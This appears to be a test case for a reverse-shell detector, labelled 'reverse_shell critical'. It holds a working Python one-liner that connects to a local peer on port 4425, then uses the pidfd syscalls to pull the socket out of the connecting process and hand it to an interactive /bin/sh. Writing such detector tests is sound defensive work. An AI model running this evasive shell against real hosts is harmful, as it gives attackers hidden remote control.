# about: the shell takes the descriptor out of the process that connected
# expect: reverse_shell critical
# needs: python3
peer 4425
python3 -c 'import socket,os,ctypes,time
libc=ctypes.CDLL(None); r,w=os.pipe()
parent=os.getpid(); pid=os.fork()
if pid==0:
    os.read(r,1); p=libc.syscall(434,parent,0); fd=libc.syscall(438,p,9,0)
    for n in 0,1,2: os.dup2(fd,n)
    os.execv("/bin/sh",["sh","-i"])
libc.prctl(0x59616d61,pid,0,0,0)
s=socket.create_connection(("127.0.0.1",4425)); os.dup2(s.fileno(),9); os.write(w,b"x"); os.wait()' || true
done_typing
